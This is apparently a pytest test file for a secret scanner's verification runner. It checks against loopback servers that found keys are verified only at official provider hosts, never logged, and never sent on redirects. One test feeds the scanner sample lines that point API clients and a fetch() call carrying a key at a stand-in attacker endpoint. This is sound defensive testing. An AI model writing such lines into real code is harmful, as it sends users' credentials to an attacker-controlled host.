"""The verification runner against a loopback HTTPS server (issue 25). No test reaches the
internet: every request goes to 127.0.0.1, through the test-only endpoint override or a proxy
setting that points at a closed loopback port."""

from __future__ import annotations

import hashlib
import logging
import socket
import ssl
import time
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from urllib.parse import urlsplit

import pytest
import trustme

from scanner.model import Verification, VerifyStatus
from scanner.rules import load_verifiers
from scanner.rules.verifiers import OFFICIAL_HOSTS, VerifySpec
from scanner.verify import Candidate, VerifySettings, judge, verify
from scanner.verify.runner import _network_reason
from tests.keys import found, make_key
from tests.verify_server import SAMPLES, SCENARIOS, Endpoint, ca_bundle, credential, https_server

SPECS = load_verifiers()
HOSTS = sorted({h for hosts in OFFICIAL_HOSTS.values() for h in hosts})


def digest(value: str) -> str:
    return hashlib.sha256(value.encode()).hexdigest()


def candidate(rule_id: str, seed: int) -> Candidate:
    """A fake key of the rule (built at run time), and for AWS's key ID its secret access key."""
    if rule_id == "aws.access-key-id":
        key_id = make_key(rule_id, seed, example=0)  # AKIA: long-term
        return Candidate(digest(key_id), key_id, rule_id, pair=make_key("aws.secret-access-key", seed))
    value = make_key(rule_id, seed)
    return Candidate(digest(value), value, rule_id)


@dataclass
class Net:
    server: Endpoint
    attacker: Endpoint
    ca: str

    def settings(self, **values: object) -> VerifySettings:
        base: dict[str, object] = {
            # generous: the test server takes TLS handshakes one at a time in its accept loop, and
            # a loaded CI machine once took more than 0.3 s over one (a live answer read "timeout")
            "timeout": 5.0,
            "retries": 2,
            "backoff": 0.01,
            "budget": 10.0,
            "ca_bundle": self.ca,
            "endpoints": dict.fromkeys(HOSTS, self.server.netloc),
        }
        return VerifySettings(**{**base, **values})  # type: ignore[arg-type]


@pytest.fixture(scope="module")
def ca() -> trustme.CA:
    return trustme.CA()


@pytest.fixture
def net(ca: trustme.CA, tmp_path: Path) -> Iterator[Net]:
    with https_server(ca) as server, https_server(ca) as attacker:
        server.plan.redirect_to = f"https://{attacker.netloc}/collect"
        yield Net(server, attacker, ca_bundle(ca, tmp_path))


def test_every_spec_has_a_provider_sample() -> None:
    """A new verifier needs its provider's real answers here, or the parametrised test misses it."""
    for spec in SPECS.values():
        assert (spec.host, spec.path) in SAMPLES, spec.url


ANSWERS = tuple(s for s in SCENARIOS if s != "timeout")  # the timeout has its own test


@pytest.mark.parametrize("rule_id", sorted(SPECS))
def test_every_verifier_reads_every_answer(net: Net, rule_id: str, caplog: pytest.LogCaptureFixture) -> None:
    """live, revoked, rate-limited then live, 5xx, malformed body, redirect to another host (not
    followed) — one key per scenario, all in one run."""
    spec = SPECS[rule_id]
    keys = {s: candidate(rule_id, seed) for seed, s in enumerate(ANSWERS)}
    net.server.plan.scenarios = {c.secret: s for s, c in keys.items()}
    caplog.set_level(logging.DEBUG)
    got = verify(keys.values(), net.settings())
    by = {s: got[c.digest] for s, c in keys.items()}

    assert by["live"].status is VerifyStatus.LIVE and by["live"].http_status == 200
    assert by["live"].checked_at and by["live"].checked_at.endswith("Z")
    assert by["revoked"].status is VerifyStatus.REVOKED
    assert by["revoked"].http_status == SAMPLES[(spec.host, spec.path)][1][0]
    assert by["rate-limited"].status is VerifyStatus.LIVE
    assert net.server.plan.counts[keys["rate-limited"].secret] == 2
    assert by["server-error"].status is VerifyStatus.UNKNOWN
    assert by["server-error"].reason == "server error (503)" and by["server-error"].http_status == 503
    assert net.server.plan.counts[keys["server-error"].secret] == 3  # one try and two retries
    assert by["malformed"].status is VerifyStatus.UNKNOWN and by["malformed"].reason == "unexpected answer"
    assert by["redirect"].reason == "redirect (not followed)" and by["redirect"].http_status == 302
    assert net.attacker.plan.seen == []

    # every request addressed the rule's own host and path, by the rule's method
    assert {(s.host, s.path, s.method) for s in net.server.plan.seen} == {
        (
            spec.host,
            urlsplit(spec.url).path + (f"?{urlsplit(spec.url).query}" if urlsplit(spec.url).query else ""),
            spec.method,
        )
    }
    # the secret only ever in its header: never in a path, a query, a body, a log line or a reason
    for c in keys.values():
        secret_halves = [c.secret, c.pair] if c.pair else [c.secret]
        for seen in net.server.plan.seen:
            for value in secret_halves:
                assert value not in seen.path and value.encode() not in seen.body
        if c.pair:  # AWS: the secret access key never leaves (it only keys the signature)
            assert all(c.pair not in v for s in net.server.plan.seen for v in s.headers.values())
        for value in secret_halves:
            assert value not in caplog.text
            assert all(value not in (v.reason or "") for v in got.values())
            assert value not in repr(c)


def test_a_provider_that_does_not_answer_in_time_is_unknown_timeout(net: Net) -> None:
    """Every verifier's request at once against a server that sleeps past the timeout: each is
    `unknown` for "timeout", with no status and no time of an answer, and the run does not wait
    for the server."""
    keys = [candidate(r, 900) for r in sorted(SPECS)]
    net.server.plan.scenarios = {c.secret: "timeout" for c in keys}
    net.server.plan.slow = 4.0
    start = time.monotonic()
    got = verify(keys, net.settings(timeout=1.0, concurrency=len(keys)))
    assert time.monotonic() - start < 4.0
    assert {c.digest: got[c.digest] for c in keys} == {
        c.digest: Verification(VerifyStatus.UNKNOWN, "timeout", None, None) for c in keys
    }
    # one request per key, none tried again (a timeout is not a 429 or a 5xx)
    assert sorted(credential(s.headers) for s in net.server.plan.seen) == sorted(c.secret for c in keys)


def test_no_request_goes_anywhere_the_scanned_text_names(net: Net) -> None:
    """Keys next to attacker URLs and `base_url=` pointing elsewhere: the requests still go to the
    rules' own hosts only, and a relay's key (its host is the scanned code's) is never sent."""
    evil = f"https://{net.attacker.netloc}"
    values = {
        "openai.project-key": make_key("openai.project-key", 101),
        "anthropic.api-key": make_key("anthropic.api-key", 102),
        "google.api-key": make_key("google.api-key", 103),
        "github.pat": make_key("github.pat", 104),
        "stripe.secret-key": make_key("stripe.secret-key", 105),
    }
    relay = make_key("openai.compatible-key", 106)
    text = "\n".join(
        [
            f'client = OpenAI(api_key="{values["openai.project-key"]}", base_url="{evil}/v1")',
            f"ANTHROPIC_BASE_URL={evil}/anthropic",
            f'ANTHROPIC_API_KEY="{values["anthropic.api-key"]}"',
            f'fetch("{evil}/v1beta/models?key={values["google.api-key"]}")',
            f'GITHUB_API_URL="{evil}/api/v3"',
            f'GITHUB_TOKEN="{values["github.pat"]}"',
            f'stripe = Stripe(api_base="{evil}", api_key="{values["stripe.secret-key"]}")',
            f'relay = OpenAI(base_url="{evil}/v1", api_key="{relay}")',
            f'OPENAI_API_KEY="{relay}"',
        ]
    )
    matches = found("hyperscan", text)
    candidates = [Candidate(digest(s), s, r) for r, s in matches if s]
    assert {r for r, _ in matches} >= set(values)
    got = verify(candidates, net.settings())
    assert all(got[digest(v)].status is VerifyStatus.LIVE for v in values.values())
    assert got[digest(relay)].reason == "no verifier"
    assert net.attacker.plan.seen == []
    official = {(s.host, s.path) for s in SPECS.values()}
    assert {(s.host, s.path.partition("?")[0]) for s in net.server.plan.seen} <= official
    assert len(net.server.plan.seen) == len(values)  # one request per distinct secret


def test_one_request_per_distinct_secret_and_none_for_local_only_or_unverifiable(net: Net) -> None:
    key = candidate("openai.project-key", 1)
    local = candidate("mistral.api-key", 2)
    committed_too = candidate("groq.api-key", 3)
    lone_id = make_key("aws.access-key-id", 4)
    temp_id = make_key("aws.access-key-id", 5, example=1)  # ASIA: needs a session token
    config_rule = Candidate(digest("acme"), "acme_" + "x" * 32, "acme.api-key")  # a config's rule
    got = verify(
        [
            key, key, key,  # one secret at three places
            Candidate(local.digest, local.secret, local.rule_id, local_only=True),
            Candidate(committed_too.digest, committed_too.secret, committed_too.rule_id, local_only=True),
            committed_too,  # also committed: a leak, checked
            Candidate(digest(lone_id), lone_id, "aws.access-key-id"),
            Candidate(digest(temp_id), temp_id, "aws.access-key-id", pair=make_key("aws.secret-access-key", 5)),
            config_rule,
        ],
        net.settings(),
    )  # fmt: skip
    assert got[key.digest].status is VerifyStatus.LIVE
    assert got[local.digest].reason == "local-only: never checked"
    assert got[committed_too.digest].status is VerifyStatus.LIVE
    assert "key ID alone" in got[digest(lone_id)].reason
    assert "session token" in got[digest(temp_id)].reason
    assert got[config_rule.digest] == Verification(VerifyStatus.UNKNOWN, "no verifier")
    assert sorted(net.server.plan.counts.values()) == [1, 1]  # the OpenAI key once, the Groq key once


def test_per_provider_rate_limit_and_concurrency_limit(net: Net) -> None:
    same = [candidate("openai.project-key", 200 + i) for i in range(6)]
    start = time.monotonic()
    verify(same, net.settings())
    # 10 per second at most: five gaps of 0.1 s. (Arrival times at the server are not compared:
    # on a loaded machine a delayed handshake lets two requests sent 0.1 s apart arrive together.)
    assert time.monotonic() - start >= 0.45
    assert len(net.server.plan.seen) == 6

    net.server.plan.seen.clear()
    net.server.plan.delay = 0.2
    spread = [candidate(r, 300) for r in sorted(SPECS) if not r.startswith("aws")][:9]
    verify(spread, net.settings(concurrency=3))
    assert len(net.server.plan.seen) == 9 and net.server.plan.peak <= 3


def test_the_budget_bounds_the_run(net: Net) -> None:
    """Whatever is not answered when the budget is spent is unknown, and the run ends then."""
    keys = [candidate(r, 400) for r in sorted(SPECS)]
    net.server.plan.scenarios = {c.secret: "timeout" for c in keys}
    net.server.plan.slow = 8.0
    start = time.monotonic()
    got = verify(keys, net.settings(timeout=6.0, budget=0.5))
    elapsed = time.monotonic() - start
    assert elapsed < 3.0  # the budget's 0.5 s and slack for a loaded machine, far below the timeout
    assert {v.reason for v in got.values()} == {"time budget spent"}


def test_retry_after_beyond_the_budget_gives_up_at_once(net: Net) -> None:
    spec = SPECS["openai.project-key"]
    assert judge(spec, 429, b"", None).reason == "unexpected answer"  # a bare status is not a verdict
    key = candidate("openai.project-key", 500)
    net.server.plan.scenarios = {key.secret: "server-error"}
    start = time.monotonic()
    got = verify([key], net.settings(backoff=8.0, budget=5.0))
    # not one retry: the 8 s backoff would end past the budget, so it gives up at once
    assert got[key.digest].reason == "server error (503)" and time.monotonic() - start < 3.0
    assert net.server.plan.counts[key.secret] == 1


def test_an_untrusted_certificate_is_unknown_not_live(net: Net, tmp_path: Path) -> None:
    """Without the test CA in the bundle the loopback server is not trusted: no answer is read."""
    other = tmp_path / "other"
    other.mkdir()
    key = candidate("openai.project-key", 600)
    got = verify([key], net.settings(ca_bundle=ca_bundle(trustme.CA(), other)))
    assert got[key.digest].reason == "TLS: the certificate could not be verified"
    assert got[key.digest].status is VerifyStatus.UNKNOWN


def _closed_port() -> int:
    s = socket.socket()
    s.bind(("127.0.0.1", 0))
    port = s.getsockname()[1]
    s.close()
    return int(port)


def _fifty() -> list[Candidate]:
    rules = sorted(SPECS)
    return [candidate(rules[i % len(rules)], 700 + i) for i in range(50)]


@pytest.mark.parametrize("how", ["proxy", "endpoint"])
def test_no_network_fifty_keys_all_unknown_within_the_budget(tmp_path: Path, how: str) -> None:
    """No network at all: a proxy setting at a closed loopback port (the real hosts are never
    resolved: the proxy would be asked), or every host overridden to a port nobody listens on."""
    port = _closed_port()
    keys = _fifty()
    assert len({c.digest for c in keys}) == 50
    if how == "proxy":
        settings = VerifySettings(proxy=f"http://127.0.0.1:{port}", budget=30.0)
    else:
        settings = VerifySettings(endpoints=dict.fromkeys(HOSTS, f"127.0.0.1:{port}"), budget=30.0)
    start = time.monotonic()
    got = verify(keys, settings)
    elapsed = time.monotonic() - start
    assert len(got) == 50 and {v.status for v in got.values()} == {VerifyStatus.UNKNOWN}
    assert {v.reason for v in got.values()} == {
        "proxy unreachable" if how == "proxy" else "network unreachable"
    }
    assert elapsed < settings.budget


def test_no_proxy_bypasses_the_proxy(net: Net) -> None:
    port = _closed_port()
    key = candidate("openai.project-key", 800)
    settings = net.settings(proxy=f"http://127.0.0.1:{port}", no_proxy=("127.0.0.1",))
    assert verify([key], settings)[key.digest].status is VerifyStatus.LIVE
    settings = net.settings(proxy=f"http://127.0.0.1:{port}", no_proxy=("other.invalid",))
    assert verify([key], settings)[key.digest].reason == "proxy unreachable"


def test_fifty_keys_against_the_local_server(net: Net) -> None:
    keys = _fifty()
    start = time.monotonic()
    got = verify(keys, net.settings())
    elapsed = time.monotonic() - start
    assert {v.status for v in got.values()} == {VerifyStatus.LIVE}
    assert len(net.server.plan.seen) == 50 and elapsed < 10


def test_settings_come_from_an_environment_mapping() -> None:
    env = {
        "HTTPS_PROXY": "http://proxy.internal:3128",
        "no_proxy": "localhost, .corp",
        "SSL_CERT_FILE": "/ca.pem",
    }
    s = VerifySettings.from_env(env, budget=12.0)
    assert (s.proxy, s.no_proxy, s.ca_bundle, s.budget) == (
        "http://proxy.internal:3128",
        ("localhost", ".corp"),
        "/ca.pem",
        12.0,
    )
    assert s.endpoints == {}  # the override is never read from an environment
    assert VerifySettings.from_env({}).proxy is None


def test_network_reasons_come_from_the_exception_chain_never_its_text() -> None:
    def chained(outer: Exception, inner: BaseException) -> Exception:
        outer.__cause__ = inner
        return outer

    assert _network_reason(chained(OSError("x"), socket.gaierror(-2, "Name"))).startswith("DNS")
    assert _network_reason(chained(OSError("y"), ssl.SSLError("bad"))).startswith("TLS")
    assert _network_reason(ConnectionRefusedError("secret-looking text")) == "network unreachable"


def test_gemini_answers_a_key_that_cannot_call_gemini_with_unknown() -> None:
    """A Firebase-style key whose project has no Generative Language API stays as it was."""
    spec: VerifySpec = SPECS["google.api-key"]
    got = judge(spec, 403, b'{"error": {"code": 403, "status": "PERMISSION_DENIED"}}', "t")
    assert got.status is VerifyStatus.UNKNOWN and "cannot call the Gemini API" in got.reason
    assert judge(spec, 400, b'{"error": {"status": "INVALID_ARGUMENT"}}', "t").reason == "unexpected answer"
